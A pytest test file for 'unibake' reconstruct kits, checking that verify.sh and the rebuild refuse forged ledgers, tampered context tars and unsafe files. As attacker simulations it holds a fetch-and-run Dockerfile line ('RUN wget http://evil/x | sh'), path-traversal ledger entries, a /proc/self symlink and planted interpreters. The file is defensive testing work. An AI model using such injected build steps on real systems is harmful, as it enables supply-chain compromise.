"""The reconstruct kit without an engine: deterministic bytes, the context exactly as the build sends
it, a ledger that verify.sh (plain sh) and the rebuild both check, and a rebuild that refuses
before building when the kit or the engine's base image is not the release's."""

from __future__ import annotations

import hashlib
import io
import json
import os
import re
import shutil
import signal
import subprocess
import sys
import tarfile
import time
from pathlib import Path

import pytest
import zstandard

from unibake import __version__
from unibake.errors import InputError, UnibakeError, VerificationError
from unibake.kit import KitDraft, check_kit, check_ledger, kit_name, read_kit, rebuild, write_kit
from unibake.plan import make_plan
from unibake.render import render, write_context_tar
from unibake.sbom import BaseImage

from ..conftest import REPO, terminated_as_the_cli
from ..fake_engine import FakeEngine
from ..forge import resum
from .test_smoke import server  # noqa: F401 - the fixture is used by name
from .test_supply_chain import engines  # noqa: F401 - the fixture is used by name
from .test_supply_chain import release as archive_release

BASE = BaseImage(ref="localhost/unibake-busybox:1", image_id="sha256:" + "b" * 64)
IMAGE_ID = "sha256:" + "e" * 64


def make_kit(profiles: Path, out: Path) -> tuple[Path, object]:
    plan = make_plan(profiles, cwd=profiles.parent)
    out.mkdir(exist_ok=True)
    name = kit_name(plan.product, "0.1.0")
    written = write_kit(out, name, plan=plan, context=render(plan), release="0.1.0", image_id=IMAGE_ID,
                        diff_ids=("sha256:" + "1" * 64,), epoch=1700000000, revision="abc", base=BASE, builder=None)
    return out / name, written


def unpack(kit: Path, into: Path) -> Path:
    into.mkdir()
    data = zstandard.ZstdDecompressor().stream_reader(open(kit, "rb"), read_across_frames=True).read()
    with tarfile.open(fileobj=io.BytesIO(data)) as tar:
        tar.extractall(into, filter="tar")
    (folder,) = into.iterdir()
    return folder


def test_the_kit_is_deterministic_and_holds_the_context_exactly_as_built(busybox_product, tmp_path):
    first, written = make_kit(busybox_product, tmp_path / "a")
    second, _ = make_kit(busybox_product, tmp_path / "b")
    assert first.read_bytes() == second.read_bytes()
    folder = unpack(first, tmp_path / "unpacked")
    assert folder.name == "unibake-test-0.1.0-kit"
    plan = make_plan(busybox_product, cwd=busybox_product.parent)
    expected = io.BytesIO()
    write_context_tar(render(plan), expected, mtime=1700000000)
    assert (folder / "context.tar").read_bytes() == expected.getvalue()
    assert (folder / "Dockerfile").read_text() == render(plan).dockerfile
    assert (folder / "inputs.lock").read_bytes() == (busybox_product / "inputs.lock").read_bytes()
    assert sorted(p.name for p in (folder / "profiles").iterdir()) == ["product.yaml", "tp1.yaml", "tp2.yaml"]
    assert (folder / "tool/unibake/normalise.py").is_file() and (folder / "tool/requirements.txt").is_file()
    record = read_kit(folder)
    assert (record.image_id, record.source_date_epoch, record.revision, record.platform) == \
        (IMAGE_ID, 1700000000, "abc", "linux/amd64")
    assert record.build_args == {"UNIBAKE_REVISION": "abc", "UNIBAKE_CREATED": "2023-11-14T22:13:20Z"}
    assert json.loads((folder / "kit.json").read_text())["base"] == {"ref": BASE.ref, "image_id": BASE.image_id}
    assert written.files == len((folder / "kit.sha256").read_text().splitlines())
    assert (folder / "verify.sh").stat().st_mode & 0o111


def test_a_kit_begun_in_a_thread_before_the_image_is_known_is_the_same_file(busybox_product, tmp_path):
    # the pipeline begins the kit (context tar, hashed and compressed) while the image is exported and
    # finishes it with the image's ID: the bytes must be those of the kit written in one go
    whole, _ = make_kit(busybox_product, tmp_path / "whole")
    plan = make_plan(busybox_product, cwd=busybox_product.parent)
    out = tmp_path / "drafted"
    out.mkdir()
    draft = KitDraft(out, whole.name, plan=plan, context=render(plan), release="0.1.0", epoch=1700000000)
    draft.begin_in_thread()
    draft.wait()
    assert [p.name for p in out.iterdir()] == [f".{whole.name}.tmp"]  # not in place before it is finished
    written = draft.finish(image_id=IMAGE_ID, diff_ids=("sha256:" + "1" * 64,), revision="abc", base=BASE,
                           builder=None)
    draft.abandon()  # what the pipeline's clean-up does after a successful run: nothing
    assert sorted(p.name for p in out.iterdir()) == [whole.name]
    assert (out / whole.name).read_bytes() == whole.read_bytes()
    assert written.file.sha256 == hashlib.sha256(whole.read_bytes()).hexdigest()
    data = zstandard.ZstdDecompressor().stream_reader(open(whole, "rb"), read_across_frames=True).read()
    with tarfile.open(fileobj=io.BytesIO(data)) as tar:
        files = [m.name.split("/", 1)[1] for m in tar.getmembers() if m.isfile()]
    assert files[:2] == ["Dockerfile", "context.tar"] and files[2:] == sorted(files[2:])


def test_an_abandoned_kit_leaves_nothing_and_its_thread_stops(busybox_product, tmp_path):
    plan = make_plan(busybox_product, cwd=busybox_product.parent)
    for when in ("before", "running", "begun"):
        out = tmp_path / when
        out.mkdir()
        draft = KitDraft(out, "k.tar.zst", plan=plan, context=render(plan), release="0.1.0", epoch=0)
        if when != "before":
            draft.begin_in_thread()
        if when == "begun":
            draft.wait()
            assert (out / ".k.tar.zst.tmp").is_file()
        draft.abandon()
        assert list(out.iterdir()) == [], when
        assert draft._thread is None or not draft._thread.is_alive()


def test_an_interrupt_while_the_kit_s_thread_is_waited_for_still_leaves_nothing(busybox_product, tmp_path, monkeypatch):
    # (before: Python 3.11's join, cut short by the interrupt, took the kit's thread for ended: abandon() did not
    # wait for it, found no file open yet, and the thread then made .k.tar.zst.tmp in the staging folder after
    # the clean-up, beside the folder's removal)
    import threading

    from unibake import kit

    plan = make_plan(busybox_product, cwd=busybox_product.parent)
    out = tmp_path / "out"
    out.mkdir()
    main, real_open_new = threading.main_thread().ident, kit.open_new

    def opened_as_the_interrupt_comes(path):  # the thread about to make its file as the caller is interrupted
        signal.pthread_kill(main, signal.SIGUSR1)
        time.sleep(0.5)
        return real_open_new(path)

    def interrupt(signum, frame):
        raise KeyboardInterrupt

    monkeypatch.setattr(kit, "open_new", opened_as_the_interrupt_comes)
    previous = signal.signal(signal.SIGUSR1, interrupt)
    try:
        draft = KitDraft(out, "k.tar.zst", plan=plan, context=render(plan), release="0.1.0", epoch=0)
        with pytest.raises(KeyboardInterrupt):  # (wherever the caller is as the interrupt comes: till wait() is done)
            draft.begin_in_thread()
            draft.wait()
        draft.abandon()
        assert not draft._thread.is_alive()
        time.sleep(0.7)
        assert list(out.iterdir()) == []
    finally:
        signal.signal(signal.SIGUSR1, previous)


def test_a_kit_whose_context_is_not_the_releases_is_never_written(busybox_product, tmp_path):
    plan = make_plan(busybox_product, cwd=busybox_product.parent)
    out = tmp_path / "out"
    out.mkdir()
    with pytest.raises(VerificationError, match=r"the build context of .* differs from the one release 0\.1\.0 was "
                                                r"built from \(ffffffffffffffff\.\.\.\); no kit was written"):
        write_kit(out, "k.tar.zst", plan=plan, context=render(plan), release="0.1.0", image_id=IMAGE_ID,
                  diff_ids=(), epoch=0, revision="abc", base=BASE, builder=None, expect_context="f" * 64)
    assert list(out.iterdir()) == []


def test_verify_sh_and_the_rebuild_check_the_ledger_and_the_base_image_before_building(busybox_product, tmp_path):
    kit, _ = make_kit(busybox_product, tmp_path / "out")
    folder = unpack(kit, tmp_path / "unpacked")
    ok = subprocess.run(["sh", "./verify.sh"], cwd=folder, capture_output=True, text=True)
    assert ok.returncode == 0 and "files match kit.sha256" in ok.stdout, ok.stderr
    assert check_ledger(folder) == []

    engine = FakeEngine()  # it has no base image: the rebuild refuses before building anything
    with pytest.raises(InputError, match=r"the base image localhost/unibake-busybox:1 is missing in the engine at "
                                         r"fake://engine; release 0.1.0 was built on sha256:b{64}: load that image"):
        rebuild(folder, engine)

    (folder / "stray.txt").write_text("x")
    extra = subprocess.run(["sh", "./verify.sh"], cwd=folder, capture_output=True, text=True)
    assert extra.returncode == 3 and "not listed in kit.sha256: stray.txt" in extra.stderr
    (folder / "stray.txt").unlink()
    # names that the shell would read as a pattern or an option are named as they are (before: * listed the folder)
    for name in ("*", "-n"):
        (folder / name).write_text("x")
    extra = subprocess.run(["sh", "./verify.sh"], cwd=folder, capture_output=True, text=True)
    assert extra.returncode == 3 and "not listed in kit.sha256: * -n\n" in extra.stderr, extra.stderr
    for name in ("*", "-n"):
        (folder / name).unlink()
    with open(folder / "context.tar", "ab") as fh:
        fh.write(b"\0" * 512)
    changed = subprocess.run(["sh", "./verify.sh"], cwd=folder, capture_output=True, text=True)
    assert changed.returncode == 3 and "context.tar: FAILED" in changed.stdout + changed.stderr
    assert check_ledger(folder) == ["context.tar: differs from kit.sha256"]
    with pytest.raises(VerificationError, match="context.tar: differs from kit.sha256"):
        rebuild(folder, engine)
    bogus = subprocess.run(["sh", "./verify.sh", "--bogus"], cwd=folder, capture_output=True, text=True)
    assert bogus.returncode == 2 and bogus.stderr.startswith("error: usage: ./verify.sh")  # one error: line


def test_kit_and_rebuild_refuse_what_they_cannot_trust_with_one_error_line(cli, tmp_path):
    old = tmp_path / "1.3.1"  # a release made before the provenance existed: its manifest has no supply_chain
    old.mkdir()
    manifest = json.loads((REPO / "release/1.3.1/manifest.json").read_text())
    manifest.pop("supply_chain", None)
    (old / "manifest.json").write_text(json.dumps(manifest, indent=2) + "\n")
    sha = hashlib.sha256((old / "manifest.json").read_bytes()).hexdigest()
    (old / "SHA256SUMS").write_text(f"{sha}  manifest.json\n")
    refused = cli("kit", str(old), "--out", str(tmp_path / "kit"))
    assert refused.code == 2 and refused.error_lines == [
        f"error: release 1.3.1 ({old}) has no provenance (it was made before unibake wrote one): its inputs cannot be "
        "checked, so no kit is written"]
    assert not (tmp_path / "kit").exists()
    not_a_kit = cli("rebuild", str(tmp_path))  # no kit at all: the wrong argument, exit 2 (it was 3, a failed check)
    assert not_a_kit.code == 2 and not_a_kit.error_lines[-1].startswith(f"error: {tmp_path}: not a kit (it holds "
                                                                        "neither kit.json nor kit.sha256)")


def forge_kit_json(folder: Path, change) -> None:
    """kit.json changed, and its line of the ledger rewritten to match, as an attacker would."""
    record = json.loads((folder / "kit.json").read_text())
    change(record)
    (folder / "kit.json").write_text(json.dumps(record, indent=2))  # as the kit writes it (verify.sh reads it so)
    ledger = (folder / "kit.sha256").read_text().splitlines()
    digest = hashlib.sha256((folder / "kit.json").read_bytes()).hexdigest()
    (folder / "kit.sha256").write_text("\n".join(f"{digest}  kit.json" if line.endswith("  kit.json") else line
                                                 for line in ledger) + "\n")


@pytest.mark.parametrize("field", ["base", "toolchains"])
def test_a_kit_json_naming_an_image_by_something_not_an_image_reference_is_refused_before_the_engine_is_asked(
        busybox_product, tmp_path, field):
    kit, _ = make_kit(busybox_product, tmp_path / "out")
    folder = unpack(kit, tmp_path / "unpacked")
    hostile = {"ref": "../containers/x", "image_id": BASE.image_id}
    forge_kit_json(folder, lambda record: record.update({field: [hostile] if field == "toolchains" else hostile}))
    engine = FakeEngine()
    with pytest.raises(VerificationError, match=r"kit.json: not a valid kit record: .*ref.*pattern"):
        rebuild(folder, engine)


@pytest.mark.parametrize("name,digest", [("../containers/x", None), (None, "not-a-digest")])
def test_kit_refuses_a_provenance_naming_an_image_it_cannot_hold_with_one_error_line(cli, tmp_path, name, digest):
    # the release folder is outside input: its provenance (SHA256SUMS rewritten to match) names the base image
    folder = tmp_path / "out" / "1.3.1"
    shutil.copytree(REPO / "release/1.3.1", folder)
    statement = json.loads((folder / "provenance.intoto.json").read_text())
    base = next(d for d in statement["predicate"]["buildDefinition"]["resolvedDependencies"]
                if d.get("annotations", {}).get("role") == "base image")
    base["name"] = name or base["name"]
    base["digest"]["sha256"] = digest or base["digest"]["sha256"]
    (folder / "provenance.intoto.json").write_text(json.dumps(statement, indent=2))
    resum(folder)
    refused = cli("kit", str(folder), "--out", str(tmp_path / "kit"), "--config", str(REPO / "profiles"))
    assert refused.code == 3 and refused.error_lines == [
        f"error: {folder}/provenance.intoto.json: its base image {name or base['name']!r} is not an image reference "
        "with a sha256 digest"], refused.err
    assert not (tmp_path / "kit").exists() or list((tmp_path / "kit").iterdir()) == []


def test_kit_trusts_no_manifest_that_differs_from_the_sums_and_writes_no_kit_that_is_not_the_published_one(
        cli, tmp_path):
    folder = tmp_path / "out" / "1.3.1"
    shutil.copytree(REPO / "release/1.3.1", folder)
    manifest = json.loads((folder / "manifest.json").read_text())
    # kit.json takes the image ID from the manifest: one that SHA256SUMS does not vouch for is refused
    (folder / "manifest.json").write_text(json.dumps({**manifest, "image_id": "sha256:" + "1" * 64}, indent=2) + "\n")
    refused = cli("kit", str(folder), "--out", str(tmp_path / "kit"), "--config", str(REPO / "profiles"))
    assert refused.code == 3 and "manifest.json: differs from SHA256SUMS" in refused.error_lines[-1], refused.err
    assert not (tmp_path / "kit").exists()
    # the sums rewritten to match, the published kit named by another sha256: what is written now is not it
    manifest["supply_chain"]["kit"]["sha256"] = "2" * 64
    (folder / "manifest.json").write_text(json.dumps(manifest, indent=2) + "\n")
    resum(folder)
    differs = cli("kit", str(folder), "--out", str(tmp_path / "kit"), "--config", str(REPO / "profiles"))
    assert differs.code == 3 and f"not the sha256:{'2' * 64} release 1.3.1 published" in differs.error_lines[-1], \
        differs.err
    assert not (tmp_path / "kit").exists()  # nor the folder --out named


def test_a_listed_file_under_a_link_in_the_kit_is_refused_before_it_is_read(busybox_product, tmp_path):
    # found by review: p -> /proc/self with p/pagemap listed: both checks hashed the file through the link
    # (256 GB, "regular", read for hours) before the walk for unlisted files refused the link
    import threading

    kit, _ = make_kit(busybox_product, tmp_path / "out")
    folder = unpack(kit, tmp_path / "unpacked")
    lines = (folder / "kit.sha256").read_text().splitlines()
    (folder / "p").symlink_to("/proc/self")
    relist(folder, sorted(lines + [f"{'0' * 64}  p/pagemap"], key=lambda line: line[66:]))
    shell = subprocess.run(["sh", "./verify.sh"], cwd=folder, capture_output=True, text=True, timeout=60)
    assert shell.returncode == 3 and "error: not listed in kit.sha256: p" in shell.stderr, shell.stderr
    outcome = []

    def check():
        try:
            rebuild(folder, FakeEngine())
        except VerificationError as exc:
            outcome.append(exc)
    worker = threading.Thread(target=check, daemon=True)
    worker.start()
    worker.join(30)
    assert outcome, "still reading after 30 s"
    assert "p/pagemap: lies under a link in the kit, which the kit does not hold" in str(outcome[0])

@pytest.mark.parametrize("field", ["release", "product"])
def test_a_kit_json_value_ending_in_a_newline_is_refused_before_the_engine_is_asked(busybox_product, tmp_path, field):
    # the models' patterns end in "$", which a final "\n" passes: the tag built from it would not be the release's
    kit, _ = make_kit(busybox_product, tmp_path / "out")
    folder = unpack(kit, tmp_path / "unpacked")
    forge_kit_json(folder, lambda record: record.update({field: record[field] + "\n"}))
    engine = FakeEngine()
    with pytest.raises(VerificationError, match=rf"kit.json: not a valid kit record: .*{field} holds a control"):
        rebuild(folder, engine)


def relist(folder: Path, lines: list[str]) -> None:
    (folder / "kit.sha256").write_text("".join(f"{line}\n" for line in lines))


@pytest.mark.parametrize("case", ["outside", "absolute", "twice", "blank line", "bsd line", "fifo", "linked file",
                                  "bytecode", "venv", "group-writable file", "world-writable folder",
                                  "world-writable kit folder"])
def test_verify_sh_and_the_rebuild_refuse_the_same_ledgers_and_leftovers(busybox_product, tmp_path, case):
    kit, _ = make_kit(busybox_product, tmp_path / "out")
    folder = unpack(kit, tmp_path / "unpacked")
    lines = (folder / "kit.sha256").read_text().splitlines()
    empty = hashlib.sha256(b"").hexdigest()
    if case == "outside":
        (tmp_path / "unpacked" / "outside.txt").write_text("")
        relist(folder, lines + [f"{empty}  ../outside.txt"])
    elif case == "absolute":
        relist(folder, lines + [f"{empty}  {tmp_path}/unpacked/outside.txt"])
    elif case == "twice":
        relist(folder, lines + [lines[0]])
    elif case == "blank line":
        relist(folder, lines + [""])
    elif case == "bsd line":
        name = lines[0][66:]
        relist(folder, lines[1:] + [f"SHA256 ({name}) = {lines[0][:64]}"])
    elif case == "fifo":  # sha256sum would wait on it for ever
        os.mkfifo(folder / "pipe")
        relist(folder, lines + [f"{empty}  pipe"])
    elif case == "linked file":
        target = folder / "kit.json"
        moved = tmp_path / "kit.json"
        target.rename(moved)
        target.symlink_to(moved)
    elif case == "bytecode":  # an unlisted .pyc is what Python runs instead of the listed source
        (folder / "tool/unibake/__pycache__").mkdir()
        (folder / "tool/unibake/__pycache__/__init__.cpython-311.pyc").write_bytes(b"\0" * 16)
    elif case == "venv":  # a planted interpreter the rebuild would pick up
        (folder / ".venv/bin").mkdir(parents=True)
        (folder / ".venv/bin/python").write_text("#!/bin/sh\nexit 0\n")
    elif case == "group-writable file":  # found by probing: another user could change it after its check
        (folder / "tool/build.py").chmod(0o775)
    elif case == "world-writable folder":
        (folder / "tool/unibake").chmod(0o777)
    else:
        folder.chmod(0o1777)
    shell = subprocess.run(["sh", "./verify.sh"], cwd=folder, capture_output=True, text=True, timeout=60)
    assert shell.returncode == 3 and "error:" in shell.stderr, (shell.stdout, shell.stderr)
    # each refused for its own reason, the one verify.sh gives (before: any VerificationError passed)
    says = {"outside": r"kit\.sha256:\d+: not 'SHA256  PATH'", "absolute": r"kit\.sha256:\d+: not 'SHA256  PATH'",
            "twice": r"'Dockerfile' is listed twice", "blank line": r"kit\.sha256:\d+: not a 'sha256  name' line",
            "bsd line": r"kit\.sha256:\d+: not 'SHA256  PATH'", "fifo": r"pipe: not a regular file",
            "linked file": r"kit\.json: not a regular file",
            "bytecode": r"tool/unibake/__pycache__/__init__\.cpython-311\.pyc: not listed in kit\.sha256",
            "venv": r"\.venv/bin/python: not listed in kit\.sha256",
            "group-writable file": r"tool/build\.py: writable by other users \(its group or everyone\)",
            "world-writable folder": r"tool/unibake: writable by other users",
            "world-writable kit folder": r"the kit folder: writable by other users"}
    with pytest.raises(VerificationError, match=says[case]):
        rebuild(folder, FakeEngine())
    if "writable" in case:  # the same words from both
        assert re.search(f"^error: {says[case]}.*`chmod -R go-w` the kit$", shell.stderr, re.M), shell.stderr


def test_the_kits_tool_writes_no_bytecode_into_the_kit(busybox_product, tmp_path):
    kit, _ = make_kit(busybox_product, tmp_path / "out")
    folder = unpack(kit, tmp_path / "unpacked")
    env = {k: v for k, v in os.environ.items() if k != "PYTHONDONTWRITEBYTECODE"}  # as a user's shell has it
    ran = subprocess.run([sys.executable, "tool/build.py", "rebuild", ".", "--engine", "unix:///nonexistent.sock"],
                         cwd=folder, capture_output=True, text=True, timeout=120, env=env)
    assert ran.returncode != 0  # no engine there: what matters is what it left behind
    assert not list(folder.rglob("__pycache__")), ran.stderr
    assert subprocess.run(["sh", "./verify.sh"], cwd=folder, capture_output=True).returncode == 0


@pytest.mark.parametrize("name", [".unibake", "my profiles", "pro\u2028files"])
def test_a_kit_of_profiles_in_a_dot_or_spaced_folder_passes_its_own_checks(busybox_product, tmp_path, name):
    profiles = busybox_product.rename(busybox_product.parent / name)
    kit, _ = make_kit(profiles, tmp_path / "out")
    folder = unpack(kit, tmp_path / "unpacked")
    shell = subprocess.run(["sh", "./verify.sh"], cwd=folder, capture_output=True, text=True, timeout=60)
    assert shell.returncode == 0, shell.stderr
    assert check_ledger(folder) == []
    # its README names the folder the kit holds them in (it said profiles/ whatever the folder's name); a character
    # that hides or reorders the text around it (U+2028 ends a line) shown as U+FFFD, as in the release notes
    shown = name.replace("\u2028", "\ufffd")
    assert (folder / name).is_dir()
    assert f"`{shown}/` the YAML it was rendered from" in (folder / "README.md").read_text()


def test_kit_after_a_profile_was_added_says_so_and_names_the_release_s_revision(cli, tmp_path, demo_product):
    # release 1.3.1 was made of every profile the product had (its tag is the 'all' selection's):
    # with tp8 added, those three profiles are a selection of their own, with another tag
    (demo_product / "tp8.yaml").write_text((demo_product / "tp1.yaml").read_text().replace("profile: tp1",
                                                                                          "profile: tp8"))
    folder = tmp_path / "out" / "1.3.1"
    shutil.copytree(REPO / "release/1.3.1", folder)
    refused = cli("kit", str(folder), "--out", str(tmp_path / "kit"), "--config", str(demo_product))
    revision = json.loads((folder / "manifest.json").read_text())["revision"]
    assert refused.code == 2 and "a profile added or removed since changes which selection is 'all'" in \
        refused.error_lines[-1] and revision in refused.error_lines[-1], refused.err


@pytest.mark.parametrize("recorded", ["dirty", "unknown"])
def test_kit_of_a_release_built_from_a_dirty_or_no_checkout_names_a_revision_git_knows(cli, tmp_path, demo_product,
                                                                                       recorded):
    # a release built with uncommitted changes records "COMMIT-dirty": the hint said "check out the
    # revision it was built from (COMMIT-dirty)", a name `git checkout` refuses
    tune = sorted((demo_product.parent / "images/tune/tp2").iterdir())[0]
    tune.write_text(tune.read_text() + "\n")
    assert cli("lock", "--config", str(demo_product)).code == 0
    folder = tmp_path / "out" / "1.3.1"
    shutil.copytree(REPO / "release/1.3.1", folder)
    data = json.loads((folder / "manifest.json").read_text())
    commit = data["revision"].removesuffix("-dirty")
    data["revision"] = f"{commit}-dirty" if recorded == "dirty" else "unknown"
    text = json.dumps(data, indent=2) + "\n"
    (folder / "manifest.json").write_text(text)
    sums = [line if not line.endswith("  manifest.json") else f"{hashlib.sha256(text.encode()).hexdigest()}  manifest.json"
            for line in (folder / "SHA256SUMS").read_text().splitlines()]
    (folder / "SHA256SUMS").write_text("\n".join(sums) + "\n")
    refused = cli("kit", str(folder), "--out", str(tmp_path / "kit"), "--config", str(demo_product))
    assert refused.code == 2 and len(refused.error_lines) == 1, refused.err
    line = refused.error_lines[0]
    assert line.startswith(f"error: input images/tune/tp2/{tune.name} differs from the one release 1.3.1"), line
    assert "-dirty" not in line and "unknown" not in line
    if recorded == "dirty":
        assert line.endswith(f"check out the revision it was built from ({commit}) with the uncommitted changes it was "
                             "built with (it was built from a checkout with changes: its provenance lists every input's "
                             "sha256)")
    else:
        assert line.endswith("the release records no git revision: restore the inputs its provenance lists")
    assert not (tmp_path / "kit").exists()


def test_kit_with_another_products_profiles_says_so(cli, tmp_path, busybox_product):
    # without --config the checkout's profiles/ is used: another product's, whose errors (an unknown
    # profile, "--profile") named neither the product nor the option to give
    folder = tmp_path / "out" / "1.3.1"
    shutil.copytree(REPO / "release/1.3.1", folder)
    refused = cli("kit", str(folder), "--out", str(tmp_path / "kit"), "--config", str(busybox_product))
    assert refused.code == 2 and refused.error_lines == [
        f"error: the profiles in {busybox_product} are of the product unibake-test, not release 1.3.1 ({folder})'s "
        "demo-llm: give the release's own profiles folder with --config"]


@pytest.mark.parametrize("under", ["images/engine", "images/tune/tp2/kits"])
def test_kit_into_a_folder_the_image_bakes_is_refused_before_anything_is_written(cli, tmp_path, demo_product, under):
    # (before: the kit was written there, and the next build refused it as an input not in inputs.lock; once
    # locked, the next image baked it)
    folder = tmp_path / "out" / "1.3.1"
    shutil.copytree(REPO / "release/1.3.1", folder)
    root = demo_product.parent
    before = sorted(root.rglob("*"))
    refused = cli("kit", str(folder), "--out", str(root / under), "--config", str(demo_product))
    inside = under.removesuffix("/kits")
    assert refused.code == 2 and refused.error_lines == [
        f"error: --out {root / under}: inside '{inside}', a folder the image bakes, so the kit would be an input of "
        "the next build; give --out a folder outside the folders the image bakes"], refused.err
    assert sorted(root.rglob("*")) == before


def test_kit_into_the_release_folder_leaves_the_published_kit_alone_when_it_writes_another(cli, tmp_path):
    # --out the release folder itself: the kit written now (other tool sources, same inputs) is not the
    # published one; the published file must stay, byte for byte, and nothing else be left behind
    folder = tmp_path / "out" / "1.3.1"
    shutil.copytree(REPO / "release/1.3.1", folder)
    published = folder / "demo-llm-1.3.1-kit.tar.zst"
    published.write_bytes(b"the kit the release published")
    manifest = json.loads((folder / "manifest.json").read_text())
    manifest["supply_chain"]["kit"]["sha256"] = hashlib.sha256(published.read_bytes()).hexdigest()
    (folder / "manifest.json").write_text(json.dumps(manifest, indent=2) + "\n")
    resum(folder)
    before = sorted(p.name for p in folder.iterdir())
    differs = cli("kit", str(folder), "--out", str(folder), "--config", str(REPO / "profiles"))
    assert differs.code == 3 and differs.error_lines[-1].endswith("nothing written"), differs.err
    assert published.read_bytes() == b"the kit the release published"
    assert sorted(p.name for p in folder.iterdir()) == before


def test_kit_that_writes_nothing_leaves_no_out_folder_it_made(cli, tmp_path):
    folder = tmp_path / "out" / "1.3.1"
    shutil.copytree(REPO / "release/1.3.1", folder)
    manifest = json.loads((folder / "manifest.json").read_text())
    manifest["supply_chain"]["kit"]["sha256"] = "0" * 64  # the kit written now cannot be the published one
    (folder / "manifest.json").write_text(json.dumps(manifest, indent=2) + "\n")
    resum(folder)
    (tmp_path / "kits").mkdir()
    refused = cli("kit", str(folder), "--out", str(tmp_path / "kits/new/1.3.1"), "--config", str(REPO / "profiles"))
    assert refused.code == 3 and refused.error_lines[-1].endswith("nothing written"), refused.err
    assert os.listdir(tmp_path / "kits") == []  # "nothing written": not even the folders --out named


def test_rebuild_of_a_kit_made_by_another_unibake_version_is_refused_before_the_engine(busybox_product, tmp_path,
                                                                                       cli):
    # its normalise is not this one's: "DIFFERENT" would have blamed the release, not the tool
    kit, _ = make_kit(busybox_product, tmp_path / "out")
    folder = unpack(kit, tmp_path / "unpacked")
    forge_kit_json(folder, lambda record: record["tool"].update(version="0.0.1"))
    # said before the kit's files are hashed (found by review: a context of many GB was hashed first): a context
    # that differs from its ledger is not reached
    with open(folder / "context.tar", "ab") as context:
        context.write(b"x")
    refused = cli("rebuild", str(folder))
    assert refused.code == 2 and refused.error_lines == [
        f"error: {folder}: a kit made by unibake 0.0.1, this is {__version__}: rebuild it with its own copy "
        "(./verify.sh --rebuild runs tool/), as `build.py kit` needs the release's version too"], refused.err


def test_kit_refuses_a_folder_in_the_kits_place_naming_it(cli, tmp_path):
    folder = tmp_path / "out" / "1.3.1"
    shutil.copytree(REPO / "release/1.3.1", folder)
    (tmp_path / "kit" / "demo-llm-1.3.1-kit.tar.zst").mkdir(parents=True)
    refused = cli("kit", str(folder), "--out", str(tmp_path / "kit"), "--config", str(REPO / "profiles"))
    assert refused.code == 2 and refused.error_lines == [
        f"error: {tmp_path}/kit/demo-llm-1.3.1-kit.tar.zst: a folder where the kit would be written; move it away "
        "or write the kit elsewhere"], refused.err
    assert [p.name for p in (tmp_path / "kit").iterdir()] == ["demo-llm-1.3.1-kit.tar.zst"]


# verify.sh is run by sh (dash here, with coreutils) and by busybox sh (whose own applets it prefers)
SHELLS = ["sh", pytest.param("busybox", marks=pytest.mark.skipif(not shutil.which("busybox"), reason="no busybox"))]


def verify_sh(folder: Path, shell: str, *args: str, env: dict | None = None) -> subprocess.CompletedProcess:
    command = ["busybox", "sh"] if shell == "busybox" else ["sh"]
    return subprocess.run([*command, "./verify.sh", *args], cwd=folder, capture_output=True, text=True, timeout=60,
                          env=env)


def relist_file(folder: Path, rel: str) -> None:
    """``rel``'s line of the ledger rewritten to match the file, as an attacker would."""
    digest = hashlib.sha256((folder / rel).read_bytes()).hexdigest()
    relist(folder, [f"{digest}  {rel}" if line.endswith(f"  {rel}") else line
                    for line in (folder / "kit.sha256").read_text().splitlines()])


def rewrite_context(folder: Path, extra: list[tuple[tarfile.TarInfo, bytes]]) -> None:
    """context.tar with ``extra`` entries appended, kit.json and the ledger made to agree with it."""
    with tarfile.open(folder / "context.tar") as tar:
        entries = [(m, tar.extractfile(m).read() if m.isfile() else None) for m in tar.getmembers()]
    with tarfile.open(folder / "context.tar", "w", format=tarfile.PAX_FORMAT) as tar:
        for info, data in [*entries, *extra]:
            tar.addfile(info, io.BytesIO(data) if data is not None else None)
    agree_with_context(folder)


def agree_with_context(folder: Path) -> None:
    """kit.json and the ledger made to agree with the (forged) context.tar."""
    sha = hashlib.sha256((folder / "context.tar").read_bytes()).hexdigest()
    forge_kit_json(folder, lambda record: record.update(context_sha256=sha))
    relist_file(folder, "context.tar")


def refused_by_both(folder: Path, shell: str, said: str, rebuild_says: str | None = None) -> None:
    """The forged context.tar (kit.json and the ledger made to agree): verify.sh fails (exit 3) saying
    ``context.tar: said``, and rebuild refuses it saying ``rebuild_says`` (by default the same)."""
    agree_with_context(folder)
    shown = verify_sh(folder, shell)
    assert shown.returncode == 3 and f"error: context.tar: {said}" in shown.stderr, (shown.stdout, shown.stderr)
    with pytest.raises(VerificationError, match=re.escape(rebuild_says or f"context.tar: {said}")):
        rebuild(folder, FakeEngine())


def context_end(product: Path, tmp_path: Path) -> tuple[Path, int]:
    """A kit unpacked, and where its context.tar's end blocks begin (after its last member)."""
    kit, _ = make_kit(product, tmp_path / "out")
    folder = unpack(kit, tmp_path / "unpacked")
    with tarfile.open(folder / "context.tar") as tar:
        tar.getmembers()
        return folder, tar.offset


def entry(name: str, data: bytes | None = None, **fields) -> tuple[tarfile.TarInfo, bytes | None]:
    info = tarfile.TarInfo(name)
    info.size = len(data or b"")
    for key, value in fields.items():
        setattr(info, key, value)
    return info, data


EVIL = b"FROM scratch\nRUN wget http://evil/x | sh\n"


@pytest.mark.parametrize("shell", SHELLS)
@pytest.mark.parametrize("case,message", [
    ("Dockerfile edited", "Dockerfile: its sha256 differs from kit.json's dockerfile_sha256"),
    ("kit.json agrees", "context.tar: its Dockerfile is not the kit's Dockerfile"),
    ("second Dockerfile in the context", "context.tar: its Dockerfile is not the kit's Dockerfile"),
    ("link in the context", "context.tar: a link or a special file in it"),
])
def test_the_dockerfile_a_kit_shows_is_the_one_it_builds(busybox_product, tmp_path, shell, case, message):
    # the reader checks the top-level Dockerfile; the engine builds the one in context.tar
    kit, _ = make_kit(busybox_product, tmp_path / "out")
    folder = unpack(kit, tmp_path / "unpacked")
    if case in ("Dockerfile edited", "kit.json agrees"):
        with open(folder / "Dockerfile", "ab") as fh:
            fh.write(b"RUN wget http://evil/x | sh\n")
        relist_file(folder, "Dockerfile")
        if case == "kit.json agrees":
            sha = hashlib.sha256((folder / "Dockerfile").read_bytes()).hexdigest()
            forge_kit_json(folder, lambda record: record.update(dockerfile_sha256=sha))
    elif case == "second Dockerfile in the context":  # the engine's extraction: the last one wins
        rewrite_context(folder, [entry("./Dockerfile", EVIL)])
    else:  # "sub/Dockerfile" lands through "sub -> ." on the Dockerfile
        rewrite_context(folder, [entry("sub", type=tarfile.SYMTYPE, linkname="."), entry("sub/Dockerfile", EVIL)])
    shown = verify_sh(folder, shell)
    assert shown.returncode == 3 and f"error: {message}" in shown.stderr, (shown.stdout, shown.stderr)
